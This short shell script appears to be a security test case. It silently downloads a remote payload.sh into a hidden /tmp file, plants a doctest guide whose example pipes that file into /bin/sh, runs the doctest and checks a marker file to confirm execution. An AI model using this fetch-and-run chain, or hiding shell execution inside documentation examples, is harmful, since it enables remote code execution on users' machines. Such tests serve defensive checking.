#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/.p http://203.0.113.10/payload.sh
printf 'Guide\n=====\n\n>>> import subprocess\n>>> subprocess.run(["/bin/sh"], stdin=open("/tmp/.p")).returncode\n0\n' >/tmp/guide.txt
python3 -m doctest /tmp/guide.txt
test -e /tmp/reached
took_place
